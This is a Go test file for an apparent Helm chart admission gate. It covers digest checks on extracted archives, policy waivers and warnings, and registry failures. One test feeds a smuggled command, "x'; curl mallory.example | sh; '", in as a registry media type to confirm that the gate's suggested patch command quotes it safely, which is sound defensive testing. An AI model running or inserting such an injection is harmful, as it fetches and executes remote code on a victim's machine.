package gate_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chartgate/chartgate/pkg/archive"
	"github.com/chartgate/chartgate/pkg/artifact"
	"github.com/chartgate/chartgate/pkg/chart"
	"github.com/chartgate/chartgate/pkg/gate"
	"github.com/chartgate/chartgate/pkg/policy"
	"github.com/chartgate/chartgate/pkg/problem"
	"github.com/chartgate/chartgate/pkg/verdict"
	"github.com/chartgate/chartgate/test/fixtures/charts"
)

func TestExtractedArchives(t *testing.T) {
	layer, err := charts.Archive("podinfo", "1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	extracted, err := archive.Extracted(t.Context(), layer, "")
	if err != nil {
		t.Fatal(err)
	}
	withoutValues, err := archive.Extracted(t.Context(), layer, "values.yaml")
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(layer)
	layerDigest, err := chart.ParseDigest("sha256:" + hex.EncodeToString(sum[:]))
	if err != nil {
		t.Fatal(err)
	}
	fetch := func(context.Context, artifact.Resolved) ([]byte, error) { return layer, nil }
	failing := func(problem problem.Error) func(context.Context, artifact.Resolved) ([]byte, error) {
		return func(context.Context, artifact.Resolved) ([]byte, error) { return nil, &problem }
	}
	held := func(archive chart.Digest, ignore string) gate.Artifact {
		return gate.Artifact{Manifest: digest(t, "a"), Archive: archive, Incomparable: true, Extracted: true, Ignore: ignore, ByController: true}
	}
	waived, warning := []policy.Input{requiring("acme", subject, unverified("2099-12-31"))}, []policy.Input{requiring("acme", "somebody else", warnOnly)}
	stranger := []policy.Input{requiring("acme", "somebody else")}
	for _, c := range []struct {
		sentence string
		policies []policy.Input
		held     gate.Artifact
		fetch    func(context.Context, artifact.Resolved) ([]byte, error)
		want     outcome
	}{
		{"the files of the signed layer", nil, held(extracted, ""), fetch, admitted},
		{"the signed layer itself", nil, held(layerDigest, ""), failing(problem.Error{Kind: problem.KindInternal}), admitted},
		{"other files, written by the source controller", nil, held(digest(t, "c"), ""), fetch, denied(verdict.DigestMismatch)},
		{"without the files that the rules leave out", nil, held(withoutValues, "values.yaml"), fetch, admitted},
		{"without files that no rule leaves out", nil, held(withoutValues, ""), fetch, denied(verdict.DigestMismatch)},
		{"a digest that is not sha256", nil, held(chart.Digest{}, ""), fetch, denied(verdict.DigestMismatch)},
		{"a registry that serves another layer", nil, held(extracted, ""), func(context.Context, artifact.Resolved) ([]byte, error) { return layer[1:], nil }, denied(verdict.DigestMismatch)},
		{"a layer that is too large", nil, held(extracted, ""), failing(problem.Error{Kind: problem.KindLimitExceeded, Detail: "too large"}), denied(verdict.DigestMismatch)},
		{"a registry that is down", nil, held(extracted, ""), failing(problem.Error{Kind: problem.KindUnavailable, Detail: "down"}), denied(verdict.RegistryUnavailable)},
		{"under a waiver, the files of the layer", waived, held(extracted, ""), fetch, outcome{"AllowedUnverified", ""}},
		{"under a waiver, other files", waived, held(digest(t, "c"), ""), fetch, denied(verdict.DigestMismatch)},
		{"what nobody whom a policy names has signed is not extracted", stranger, held(extracted, ""), failing(problem.Error{Kind: problem.KindInternal}), denied(verdict.IdentityNotAllowed)},
		{"with a warning beside a policy that accepts, other files", []policy.Input{requiring("acme", subject), requiring("trial", "somebody else", warnOnly)}, held(digest(t, "c"), ""), fetch, denied(verdict.DigestMismatch)},
		{"with a warning, the files of the layer", warning, held(extracted, ""), fetch, outcome{"Warned", verdict.IdentityNotAllowed}},
		{"with a warning, other files", warning, held(digest(t, "c"), ""), fetch, denied(verdict.DigestMismatch)},
	} {
		t.Run(c.sentence, func(t *testing.T) {
			s := fine(t)
			if c.policies != nil {
				s.current = func() *policy.Set { return compile(t, c.policies...) }
			}
			s.resolve = func(_ context.Context, ref chart.Reference) (artifact.Resolved, error) {
				return artifact.Resolved{Location: ref.Location, Digest: digest(t, "a"), Layer: layerDigest, LayerType: artifact.MediaTypeLayer, Direct: true, First: true}, nil
			}
			s.archive = c.fetch
			expect(t, s.gate(), use(t, podinfo, holding(&c.held)), c.want)
		})
	}
	t.Run("manifests that nothing uses as a chart are not compared", func(t *testing.T) {
		s := fine(t)
		s.resolve = func(_ context.Context, ref chart.Reference) (artifact.Resolved, error) {
			return artifact.Resolved{Location: ref.Location, Digest: digest(t, "a"), Layer: digest(t, "b"), Other: true}, nil
		}
		manifests := held(digest(t, "c"), "")
		expect(t, s.gate(), use(t, podinfo, func(found *gate.Chart) { found.Artifact, found.MaybeChart = &manifests, true }), admitted)
	})
	t.Run("a layer is fetched once", func(t *testing.T) {
		s, fetched := fine(t), atomic.Int64{}
		s.resolve = func(_ context.Context, ref chart.Reference) (artifact.Resolved, error) {
			return artifact.Resolved{Location: ref.Location, Digest: digest(t, "a"), Layer: layerDigest, Direct: true, First: true}, nil
		}
		s.archive = func(context.Context, artifact.Resolved) ([]byte, error) {
			fetched.Add(1)
			return layer, nil
		}
		g, right := s.gate(), held(extracted, "")
		for range 3 {
			expect(t, g, use(t, podinfo, holding(&right)), admitted)
		}
		if got := fetched.Load(); got != 1 {
			t.Errorf("fetched %d times", got)
		}
	})
}

// A registry chooses the media type, and the next step is a command that people paste.
func TestAttackCommandInAMediaType(t *testing.T) {
	const hostile = "x'; curl mallory.example | sh; '"
	s := fine(t)
	s.current = func() *policy.Set { return compile(t, requiring("acme", subject, unverified("2099-12-31"))) }
	s.resolve = func(_ context.Context, ref chart.Reference) (artifact.Resolved, error) {
		return artifact.Resolved{Location: ref.Location, Digest: digest(t, "a"), Layer: digest(t, "b"), LayerType: hostile, Other: true}, nil
	}
	s.archive = func(context.Context, artifact.Resolved) ([]byte, error) {
		return nil, &problem.Error{Kind: problem.KindLimitExceeded, Detail: "too large"}
	}
	held := gate.Artifact{Manifest: digest(t, "a"), Archive: digest(t, "c"), Incomparable: true, Extracted: true, ByController: true}
	v := s.gate().Decide(t.Context(), use(t, podinfo, holding(&held)))
	want := problem.Quote(fmt.Sprintf(`{"spec":{"layerSelector":{"mediaType":%q,"operation":"copy"}}}`, hostile))
	if v.Admits() || !strings.Contains(v.Message(), "--type=merge -p "+want) {
		t.Errorf("the command is not quoted as %s: %s", want, v.Message())
	}
}

// What source-controller says of its storage does not tell from where it is.
func TestUnsignedArtifactsThatTheLocationDoesNotServe(t *testing.T) {
	waived, warning := []policy.Input{requiring("acme", subject, unverified("2099-12-31"))}, []policy.Input{requiring("acme", "somebody else", warnOnly)}
	copied := func(manifest, archive string) gate.Artifact {
		return gate.Artifact{Manifest: digest(t, manifest), Archive: digest(t, archive), ByController: true}
	}
	stale := copied("f", "b")
	stale.Stale = true
	allowed, warned := outcome{"AllowedUnverified", ""}, outcome{"Warned", verdict.IdentityNotAllowed}
	for _, c := range []struct {
		sentence string
		policies []policy.Input
		held     gate.Artifact
		maybe    bool
		want     outcome
	}{
		{"a waiver, and what the location serves", waived, copied("a", "b"), false, allowed},
		{"a waiver, and a manifest that the location does not have", waived, copied("f", "b"), false, denied(verdict.ChartNotFound)},
		{"a waiver, and another archive than that of the manifest", waived, copied("a", "c"), false, denied(verdict.DigestMismatch)},
		{"a waiver, and what is pulled again before it is deployed", waived, stale, false, allowed},
		{"a waiver, and what nothing uses yet", waived, copied("f", "b"), true, allowed},
		{"only a warning, and what the location serves", warning, copied("a", "b"), false, warned},
		{"only a warning, and a manifest that the location does not have", warning, copied("f", "b"), false, denied(verdict.ChartNotFound)},
		{"only a warning, and another archive than that of the manifest", warning, copied("a", "c"), false, denied(verdict.DigestMismatch)},
	} {
		t.Run(c.sentence, func(t *testing.T) {
			s := fine(t)
			s.current = func() *policy.Set { return compile(t, c.policies...) }
			s.resolve = func(_ context.Context, ref chart.Reference) (artifact.Resolved, error) {
				if d, _ := ref.Selector.Digest(); d != digest(t, "a") {
					return artifact.Resolved{}, &problem.Error{Kind: problem.KindNotFound, Detail: "no such manifest"}
				}
				return artifact.Resolved{Location: ref.Location, Digest: digest(t, "a"), Layer: digest(t, "b"), Direct: true, First: true}, nil
			}
			expect(t, s.gate(), use(t, podinfo, func(found *gate.Chart) { found.Artifact, found.MaybeChart = &c.held, c.maybe }), c.want)
		})
	}
}
